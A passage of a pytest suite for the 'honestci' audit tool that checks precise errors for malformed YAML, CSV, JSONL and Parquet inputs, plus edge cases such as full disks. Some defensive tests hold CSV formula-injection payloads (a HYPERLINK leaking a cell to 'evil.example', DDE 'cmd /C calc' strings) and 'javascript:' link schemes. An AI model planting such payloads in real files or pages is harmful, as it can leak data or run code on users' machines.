        Case("claim-path-symlink-loop", lambda tmp: _claim_with_symlink_loop(tmp), ("loops through symbolic links",)),
        Case(
            "claim-yaml-nested-too-deep",
            with_claim(lambda _: claim_yaml() + "x: " + "[" * 200 + "]" * 200 + "\n"),
            ("nested deeper than",),
        ),
        Case(
            "claim-drops-required-gates",
            with_claim_changes(required_gates=["enough_clusters"]),
            ("field 'required_gates'", "which the policy requires", "policy file"),
        ),
    ]
    + [
        # Every threshold moved the lax way by a claim: exit 2 naming it (it belongs in a policy file).
        Case(
            f"claim-loosens-{name}",
            with_claim_changes(thresholds={name: _laxer(name)}),
            (f"field 'thresholds.{name}'", "loosens the policy", "policy file"),
        )
        for name in sorted(TIGHTENS)
    ]
)

# --- issue 32: the command line, hostile YAML, nested and mistyped columns, names -------------------


def _single_valued_options() -> list[tuple[list[str], str]]:
    """(command path, option) for every option of every command that takes one value."""
    import click

    ctx = click.Context(main)

    def walk(command, path):
        if isinstance(command, click.Group):
            for name in command.list_commands(ctx):
                yield from walk(command.get_command(ctx, name), [*path, name])
            return
        for param in command.params:
            if isinstance(param, click.Option) and not (param.multiple or param.count or param.is_flag):
                yield path, param.opts[0]

    return list(walk(main, []))


REPEATED_OPTION_CASES = [
    Case(
        f"option-twice-{'-'.join(path)}{option}",
        lambda tmp, path=path, option=option: [*path, option, "1", option, "2"],
        (f"{' '.join(path)}: option {option} is given more than once", f"give {option} once"),
    )
    for path, option in _single_valued_options()
]


def with_policy(text: str) -> Callable[[Path], list[str]]:
    """A valid study audited under the policy file ``text``."""

    def build(tmp_path: Path) -> list[str]:
        (tmp_path / "policy.yaml").write_text(text, encoding="utf-8")
        return [*audit_args(write_study(tmp_path / "study"), tmp_path), "--policy", str(tmp_path / "policy.yaml")]

    return build


def with_table(table: str, frame_of: Callable[[dict], pd.DataFrame], ext: str = "parquet"):
    """A study whose ``table`` is the frame ``frame_of(rows)`` written as Parquet."""

    def content(rows) -> bytes:
        return parquet_bytes(frame_of(rows), Path("/tmp") / f"h32-{os.getpid()}-{table}")

    return with_file(table, content, name=f"{table}.{ext}")


def _column(table: str, name: str, value_of: Callable[[int], object]) -> Callable[[dict], pd.DataFrame]:
    return lambda rows: pd.DataFrame(rows[table]).assign(**{name: [value_of(i) for i in range(len(rows[table]))]})


def _raw_lines(table: str, field_name: str, values: list[str]) -> Callable[[dict], bytes]:
    """``table`` as JSONL whose first rows hold ``field_name`` written as the raw JSON ``values``."""

    def content(rows) -> bytes:
        lines = [json.dumps(r) for r in rows[table]]
        for i, raw in enumerate(values):
            lines[i] = lines[i][:-1] + f', "{field_name}": {raw}}}'
        return ("\n".join(lines) + "\n").encode()

    return content


def _parquet_nan_seed(rows) -> bytes:
    """The responses as Parquet with a NaN (not a null: pandas would write a null) seed on row 3."""
    import io

    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_pylist(rows["responses"])
    seeds = pa.array([float("nan") if i == 2 else 1.0 for i in range(table.num_rows)], from_pandas=False)
    buffer = io.BytesIO()
    pq.write_table(table.append_column("seed", seeds), buffer)
    return buffer.getvalue()


RATINGS_CLAIM = {"data": {**claim_dict()["data"], "human_ratings": "human_ratings.jsonl"}}


def _ratings_lines(*scores: str) -> bytes:
    rows = [f'{{"response_id": "v0-p{i}", "rater_id": "r1", "score": {s}}}' for i, s in enumerate(scores)]
    return ("\n".join(rows) + "\n").encode()


NAME_FIELDS = {
    "name": lambda v: {"name": v},
    "policy": lambda v: {"policy": v},
    "opponent": lambda v: {"opponent": v},
    "judge": lambda v: {"judge": v},
    "family": lambda v: {"family": v},
    "systems": lambda v: {"systems": [v]},
}
NAME_FIELD_IN_MESSAGE = {"systems": "systems.0"}
CONTROL_CHARS = {"nul": "\x00", "newline": "\n", "tab": "\t", "escape": "\x1b", "bell": "\x07", "c1-nel": "\x85"}

YAML_CASES = [
    Case(
        "claim-5000-digit-integer",
        with_claim(lambda _: claim_yaml() + "extra: " + "9" * 5000 + "\n"),
        ("claim.yaml is not valid YAML", "an integer of 5,000 characters is longer than the 100"),
    ),
    Case(
        "claim-5000-digit-bar",
        with_claim(lambda _: claim_yaml().replace("bar: 0.5", "bar: " + "9" * 5000)),
        ("claim.yaml, line 6: an integer of 5,000 characters",),
    ),
    Case(
        "claim-5000-digit-hex",
        with_claim(lambda _: claim_yaml().replace("version: 1", "version: 0x" + "f" * 5000)),
        ("claim.yaml, line 1: an integer of 5,002 characters",),
    ),
    Case(
        "claim-unhashable-key-list",
        with_claim(lambda _: claim_yaml() + "? [a, b]\n: 1\n"),
        ("claim.yaml is not valid YAML", "found a list as a key"),
    ),
    Case(
        "claim-unhashable-key-mapping",
        with_claim(lambda _: claim_yaml() + "? {a: 1}\n: 1\n"),
        ("claim.yaml is not valid YAML", "found a dict as a key"),
    ),
    Case(
        "claim-unhashable-key-nested",
        with_claim(lambda _: claim_yaml() + "thresholds:\n  ? [min_clusters]\n  : 9\n"),
        ("claim.yaml is not valid YAML", "found a list as a key"),
    ),
    Case(
        "policy-5000-digit-integer",
        with_policy("version: 1\nname: p\nthresholds: {min_clusters: " + "9" * 5000 + "}\n"),
        ("policy.yaml, line 3: an integer of 5,000 characters",),
    ),
    Case(
        "policy-unhashable-key",
        with_policy("version: 1\nname: p\n? [a, b]\n: 1\n"),
        ("policy.yaml is not valid YAML", "found a list as a key"),
    ),
    Case(
        "policy-control-character-in-name",
        with_policy('version: 1\nname: "p\\x1bq"\n'),
        ("policy.yaml, field 'name'", "control character"),
    ),
    Case(
        "policy-name-too-long",
        with_policy("version: 1\nname: " + "p" * 201 + "\n"),
        ("policy.yaml, field 'name': String should have at most 200 characters",),
    ),
]

COLUMN_CASES = [
    Case(
        f"parquet-{kind}-in-{table}-{column}",
        with_table(table, _column(table, column, value_of)),
        (f"{table}.parquet, line 1, field '{column}': expected {expected}, got {got}",),
    )
    for table, column, expected in (
        ("vignettes", "text", "a string"),
        ("responses", "system", "a string"),
        ("responses", "seed", "an integer"),
        ("judgments", "verdict", "a string"),
    )
    for kind, value_of, got in (
        ("list", lambda i: ["first", "second"], "list"),
        ("struct", lambda i: {"a": 1, "b": "x"}, "dict"),
    )
] + [
    Case(
        "jsonl-score-float-then-true",
        with_file("human_ratings", _ratings_lines("1.0", "true", "2.0"), claim_changes=RATINGS_CLAIM),
        ("human_ratings.jsonl, line 2, field 'score': expected a number, got bool True",),
    ),
    Case(
        "jsonl-score-int-then-false",
        with_file("human_ratings", _ratings_lines("0", "false", "3"), claim_changes=RATINGS_CLAIM),
        ("human_ratings.jsonl, line 2, field 'score': expected a number, got bool False",),
    ),
    Case(
        "jsonl-score-true-then-float",
        with_file("human_ratings", _ratings_lines("true", "1.0"), claim_changes=RATINGS_CLAIM),
        ("human_ratings.jsonl, line 1, field 'score': expected a number, got bool True",),
    ),
    Case(
        "jsonl-seed-int-then-true",
        with_file("responses", _raw_lines("responses", "seed", ["1", "true", "2"])),
        ("responses.jsonl, line 2, field 'seed': expected an integer, got bool True",),
    ),
    Case(
        "jsonl-sample-idx-float-then-false",
        with_file("responses", _raw_lines("responses", "sample_idx", ["0.0", "false"])),
        ("responses.jsonl, line 2, field 'sample_idx': expected an integer, got bool False",),
    ),
    Case(
        "jsonl-seed-nan",
        with_file("responses", _raw_lines("responses", "seed", ["3", "NaN"])),
        ("responses.jsonl, line 2, field 'seed': is NaN, not an integer",),
    ),
    Case(
        "csv-seed-nan",
        with_file(
            "responses",
            lambda rows: csv_bytes([{**r, "seed": "nan" if i == 1 else "3"} for i, r in enumerate(rows["responses"])]),
            name="responses.csv",
        ),
        ("responses.csv, line 3, field 'seed': is 'nan', not an integer",),
    ),
    Case(
        "parquet-seed-nan",
        with_file("responses", _parquet_nan_seed, name="responses.parquet"),
        ("responses.parquet, line 3, field 'seed': is NaN, not an integer",),
    ),
]

NAME_CASES = (
    [
        Case(
            f"claim-{char_name}-in-{field_name}",
            with_claim_changes(**change(f"a{char}b")),
            (f"claim.yaml, field '{NAME_FIELD_IN_MESSAGE.get(field_name, field_name)}'", "control character"),
        )
        for field_name, change in NAME_FIELDS.items()
        for char_name, char in CONTROL_CHARS.items()
    ]
    + [
        Case(
            f"claim-{field_name}-of-1mib",
            with_claim_changes(**change("x" * 2**20)),
            (
                f"claim.yaml, field '{NAME_FIELD_IN_MESSAGE.get(field_name, field_name)}'",
                "at most 200 characters",
            ),
        )
        for field_name, change in NAME_FIELDS.items()
    ]
    + [
        Case("claim-name-of-201-characters", with_claim_changes(name="n" * 201), ("at most 200 characters",)),
        Case(
            "claimed-row-system-control-character",
            with_claim_changes(claimed={"table": [{"system": "s\x00", "point": 0.5}]}),
            ("field 'claimed.table.0.system'", "control character"),
        ),
    ]
)

NUMBER_CASES = [
    Case(
        f"claim-{label}",
        with_claim(lambda _, old=old, new=new: claim_yaml(claimed=CLAIMED).replace(old, new)),
        (f"claim.yaml, field '{field_name}': Input should be a valid {kind}",),
    )
    for label, field_name, old, new, kind in (
        ("bar-as-string", "bar", "bar: 0.5", "bar: !!str 0.608", "number"),
        ("bar-quoted-as-string", "bar", "bar: 0.5", "bar: '0.608'", "number"),
        ("version-as-string", "version", "version: 1", "version: !!str 1", "integer"),
        ("point-as-string", "claimed.point", "point: 0.7", "point: !!str 0.7", "number"),
        ("ci-low-as-string", "claimed.ci_low", "ci_low: 0.6", "ci_low: !!str 0.6", "number"),
        ("ci-high-as-string", "claimed.ci_high", "ci_high: 0.8", "ci_high: '0.8'", "number"),
        ("level-as-string", "claimed.level", "level: 0.95", "level: !!str 0.95", "number"),
        ("n-as-string", "claimed.n", "n: 32", "n: '32'", "integer"),
        ("bar-as-boolean", "bar", "bar: 0.5", "bar: true", "number"),
        ("version-as-boolean", "version", "version: 1", "version: true", "integer"),
        ("n-as-boolean", "claimed.n", "n: 32", "n: true", "integer"),
    )
] + [
    Case(
        "claimed-ci-low-above-ci-high",
        with_claim_changes(claimed={**CLAIMED, "ci_low": 0.8, "ci_high": 0.6}),
        ("claim.yaml, field 'claimed': Value error, ci_low 0.8 lies above ci_high 0.6",),
    ),
    Case(
        "claimed-table-row-ci-low-above-ci-high",
        with_claim_changes(claimed={**CLAIMED, "table": [{"system": "other", "ci_low": 0.9, "ci_high": 0.1}]}),
        ("claim.yaml, field 'claimed.table.0': Value error, ci_low 0.9 lies above ci_high 0.1",),
    ),
]

ALL_BAD = (
    LOADER_CASES
    + CONTEST_CASES
    + CLAIM_CASES
    + IMPORTER_CASES
    + REPORT_CASES
    + HOSTILE_CASES
    + REPEATED_OPTION_CASES
    + YAML_CASES
    + COLUMN_CASES
    + NAME_CASES
    + NUMBER_CASES
)


def invoke(args: list[str]):
    return CliRunner().invoke(main, args)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in ALL_BAD])
def test_bad_input_exits_2_with_a_precise_message(case: Case, tmp_path):
    args = case.build(tmp_path)
    result = invoke(args)
    assert isinstance(result.exception, SystemExit), f"crashed: {result.exception!r}\n{result.output}"
    assert result.exit_code == case.exit_code, result.output
    assert "Traceback" not in result.output
    assert "\nerror: " in "\n" + result.stderr, result.stderr
    for expected in case.expect:
        assert expected in result.stderr, f"{expected!r} not in:\n{result.stderr}"
    assert len(result.stderr) < 20_000, "the message repeats the input instead of pointing at it"
    assert not re.search(r"(/\S+): \1:", result.stderr), "a file is named twice in a row"
    out = tmp_path / "out"
    assert not out.exists() or not any(out.rglob("*")), f"output left behind: {list(out.rglob('*'))}"


def test_the_suite_tries_at_least_150_distinct_bad_inputs():
    assert len({c.id for c in ALL_BAD}) == len(ALL_BAD) >= 150


# --- odd but valid inputs ---------------------------------------------------------------------


def _verdict(tmp_path: Path) -> dict:
    return json.loads((tmp_path / "out" / "verdict.json").read_text())


def test_all_ties_is_a_valid_study_with_no_zero_width_interval(tmp_path):
    # Every score 1/2: the intervals built on the vignette means' spread have none to use
    # (INCONCLUSIVE), while the gate's posterior still bounds the rate near 1/2, below the bar.
    result = invoke(with_rows(lambda rows: None, verdicts=("tie",))(tmp_path))
    assert result.exit_code == 1, result.output
    verdict = _verdict(tmp_path)
    gate = next(g for g in verdict["gates"] if g["gate"] == "ci_low_clears_bar")
    assert gate["verdict"] == "FAIL" and gate["evidence"]["ci_low"] < min(0.5, gate["evidence"]["bar"])
    rows = {r["method"]: r for r in verdict["intervals"]}
    assert "same mean score" in rows["cr2"]["note"] and rows["cr2"]["ci_low"] is None
    for row in verdict["intervals"]:
        if row["ci_low"] is not None:
            assert row["ci_high"] > row["ci_low"], row  # never a zero-width interval
        else:
            assert row["verdict"] == "INCONCLUSIVE"


def test_every_verdict_invalid_is_evidence_that_blocks(tmp_path):
    # Invalid verdicts stay in the data (scored against the claim): a judge that never gave a usable
    # verdict is blocked by the valid_verdicts gate, not refused as empty input.
    result = invoke(with_rows(lambda rows: None, verdicts=("invalid",))(tmp_path))
    assert result.exit_code == 1, result.output
    gates = {g["gate"]: g for g in _verdict(tmp_path)["gates"]}
    assert gates["valid_verdicts"]["verdict"] == "FAIL" and "they alone" in gates["valid_verdicts"]["message"]


def test_single_vignette_is_inconclusive_and_blocks(tmp_path):
    result = invoke(with_rows(lambda rows: None, n_vignettes=1, pairs=6)(tmp_path))
    assert result.exit_code == 1, result.output
    verdict = _verdict(tmp_path)
    assert verdict["verdict"] == "INCONCLUSIVE"
    gates = {g["gate"]: g for g in verdict["gates"]}
    assert (
        gates["enough_clusters"]["verdict"] == "INCONCLUSIVE"
        and "1 vignette(s) < 5" in gates["enough_clusters"]["message"]
    )
    assert gates["ci_low_clears_bar"]["verdict"] == "INCONCLUSIVE"
    clustered = [r for r in verdict["intervals"] if r["population"] == "new_vignettes"]
    assert clustered and all(r["ci_low"] is None for r in clustered)


def test_byte_order_marks_are_accepted_in_jsonl_csv_and_the_claim(tmp_path):
    rows = study_rows()
    claim = claim_dict()
    claim["data"]["vignettes"] = "vignettes.csv"
    path = write_study(tmp_path / "study", rows, claim)
    (path.parent / "vignettes.csv").write_bytes(b"\xef\xbb\xbf" + csv_bytes(rows["vignettes"]))
    judgments = path.parent / "judgments.jsonl"
    judgments.write_bytes(b"\xef\xbb\xbf" + judgments.read_bytes())
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    result = invoke(audit_args(path, tmp_path))
    assert result.exit_code in (0, 1), result.output
    assert _verdict(tmp_path)["contests"]["n"] == 32


def test_formula_looking_csv_cells_are_kept_as_plain_data(tmp_path):
    from honestci.audit.data.io import load_table

    formulas = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ]
    rows = [{"vignette_id": f"v{i}", "text": text} for i, text in enumerate(formulas)]
    path = tmp_path / "vignettes.csv"
    path.write_bytes(csv_bytes(rows))
    table = load_table(path, "vignettes")
    assert table.frame["text"].tolist() == formulas  # read verbatim, never evaluated or altered


def test_csv_written_by_honestci_keeps_formula_cells_verbatim(tmp_path):
    # Decision (documented in honestci.judges.tables.write_table and docs/data-formats.md): honestci's CSV files
    # are data for programs, so cells are written verbatim; prefixing a quote would corrupt ids and
    # texts on the round trip. Open them in a spreadsheet only through a text import.
    source = tmp_path / "j.csv"
    source.write_text('q,a,b,w\nv1,"=HYPERLINK(""http://x"")",@SUM(A1),first\n')
    result = invoke(["import", "generic", str(source), "--out", str(tmp_path / "out.csv"), *GENERIC_MAP])
    assert result.exit_code == 0, result.output
    written = pd.read_csv(tmp_path / "out.csv", dtype=str)
    assert written.loc[0, "response_first"] == '=HYPERLINK("http://x")'
    assert written.loc[0, "response_second"] == "@SUM(A1)"
    from honestci.judges import tables

    assert "formula" in tables.write_table.__doc__
    assert "formula" in (REPO_ROOT / "docs" / "data-formats.md").read_text()


def test_five_megabyte_response_text_audits(tmp_path):
    def long_text(rows):
        rows["responses"][0]["text"] = "word " * (FIVE_MB // 5)

    result = invoke(with_rows(long_text)(tmp_path))
    assert result.exit_code in (0, 1), result.output
    assert _verdict(tmp_path)["contests"]["n"] == 32


def test_csv_cells_past_the_csv_modules_default_field_limit_audit(tmp_path):
    # csv.field_size_limit() is 131,072 characters by default: a long model answer exceeds it.
    rows = study_rows()
    rows["responses"][0]["text"] = "word " * 60_000
    claim = claim_dict()
    claim["data"]["responses"] = "responses.csv"
    path = write_study(tmp_path / "study", rows, claim)
    pd.DataFrame(rows["responses"]).to_csv(path.parent / "responses.csv", index=False)
    result = invoke(audit_args(path, tmp_path))
    assert result.exit_code in (0, 1), result.output
    assert _verdict(tmp_path)["contests"]["n"] == 32


def test_inputs_in_every_format_give_the_same_audit(tmp_path):
    rows = study_rows()
    verdicts = []
    for fmt in ("jsonl", "jsonl.gz", "csv", "parquet"):
        folder = tmp_path / fmt
        claim = claim_dict()
        claim["data"] = {t: f"{t}.{fmt}" for t in ("vignettes", "responses", "judgments")}
        path = write_study(folder, rows, claim)
        for table in ("vignettes", "responses", "judgments"):
            frame = pd.DataFrame(rows[table])
            target = folder / f"{table}.{fmt}"
            if fmt == "jsonl.gz":
                target.write_bytes(gzip.compress(jsonl(rows[table])))
            elif fmt == "csv":
                frame.to_csv(target, index=False)
            elif fmt == "parquet":
                frame.to_parquet(target, index=False)
        result = invoke(["audit", str(path), "--out", str(folder / "out"), "--no-bayes"])
        assert result.exit_code in (0, 1), result.output
        data = json.loads((folder / "out" / "verdict.json").read_text())
        verdicts.append([(r["method"], r["estimate"], r["ci_low"], r["ci_high"]) for r in data["intervals"]])
    assert all(v == verdicts[0] for v in verdicts)


# --- end to end: the real process prints no traceback ----------------------------------------


@pytest.mark.parametrize(
    "case_id", ["jsonl-truncated-last-line", "claim-python-object-tag", "alpaca-non-utf8", "claim-threshold-wrong-type"]
)
def test_real_process_exits_2_without_traceback(case_id, tmp_path):
    case = next(c for c in ALL_BAD if c.id == case_id)
    args = case.build(tmp_path)
    result = subprocess.run(
        [sys.executable, "-m", "honestci", *args],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr and "\nerror: " in "\n" + result.stderr
    assert case.expect[0] in result.stderr
    assert not (tmp_path / "out").exists()


# --- names that look like links are shown, never linked ------------------------------------------


@pytest.mark.parametrize(
    "scheme", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "vbscript:msgbox"]
)
def test_a_link_in_a_claim_name_reaches_no_report_as_a_link(scheme, tmp_path, monkeypatch):
    # Decision: escaped where names are rendered (reports.markdown.md), not refused at load: a
    # verdict.json given to `honestci report` never passed the claim loader, and a list of schemes
    # is easy to spell around. The name is shown as written; no renderer makes it a link.
    summary = tmp_path / "step_summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    name = f"[release notes]({scheme}) and [x][ref] [ref]: {scheme}"
    result = invoke(with_claim_changes(name=name, systems=None)(tmp_path))
    assert result.exit_code in (0, 1), result.output
    for path in (tmp_path / "out" / "report.md", summary):
        text = path.read_text()
        assert "release notes" in text, path
        assert f"]({scheme}" not in text and "][ref]" not in text and "[ref]:" not in text, path


# --- a full disk while the outputs are written -------------------------------------------------


def _full_disk(*_args, **_kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize("bayes", [False, True], ids=["reports", "posterior"])
def test_a_full_disk_while_outputs_are_written_exits_2_and_keeps_the_previous_outputs(bayes, tmp_path, monkeypatch):
    # The lowest write call, os.fsync (where a full disk reports a write the kernel delayed), fails.
    claim = write_study(tmp_path / "study")
    out = tmp_path / "out"
    flags = [] if bayes else ["--no-bayes"]
    first = invoke(["audit", str(claim), "--out", str(out), *flags])
    assert first.exit_code == 1, first.output
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert ("posterior.nc" in before) == bayes
    monkeypatch.setattr("honestci.reports.writing.os.fsync", _full_disk)
    result = invoke(["audit", str(claim), "--out", str(out), "--seed", "7", *flags])
    assert isinstance(result.exception, SystemExit) and result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and "No space left on device" in errors[0] and str(out) in errors[0], result.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no .partial, .tmp or .honestci.lock


def test_hdf5_meeting_a_full_file_system_is_an_oserror_not_a_segfault(tmp_path):
    # Before: h5py raised RuntimeError ("unable to extend file properly") and the process died of
    # SIGSEGV (exit 139) at exit. RLIMIT_FSIZE (ulimit -f, SIGXFSZ ignored) makes a write fail as
    # ENOSPC would, without root.
    code = (
        "import errno, resource, signal, sys\n"
        "from pathlib import Path\n"
        "import numpy as np, xarray as xr\n"
        "from honestci.audit.stats.bayesian.posterior_groups import PosteriorGroups\n"
        "from honestci.reports.render import write_posterior\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))\n"
        "draws = xr.Dataset({'x': (('chain', 'draw'), np.random.default_rng(0).normal(size=(4, 100_000)))})\n"
        "groups = PosteriorGroups()\n"
        "groups.add_groups(posterior=draws, sample_stats=draws)\n"
        "try:\n"
        "    write_posterior(groups, Path(sys.argv[1]))\n"
        "except OSError as error:\n"
        "    print('OSError', error.errno == errno.EFBIG)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / ".posterior.nc.partial")],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO_ROOT,
    )
    assert result.returncode == 0, (result.returncode, result.stderr)
    assert result.stdout.strip() == "OSError True", result.stdout + result.stderr
